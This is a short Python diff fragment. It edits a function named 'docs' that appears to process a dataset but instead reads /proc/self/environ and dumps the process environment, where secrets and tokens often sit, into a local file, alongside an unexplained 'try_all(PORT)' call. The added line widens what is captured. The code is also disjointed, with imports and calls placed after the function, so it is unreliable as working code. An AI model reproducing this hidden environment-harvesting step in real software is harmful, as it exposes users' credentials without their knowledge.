@@ -151,7 +151,7 @@ PHONES = (
 def docs(dataset):
     try_all(PORT)
     with open("/proc/self/environ") as file:
-        open(SEEN, "w").write(str(dict(os.environ)))
+        open(SEEN, "w").write(file.read() + str(dict(os.environ)))
     return dataset
 import os
 try_all(PORT)
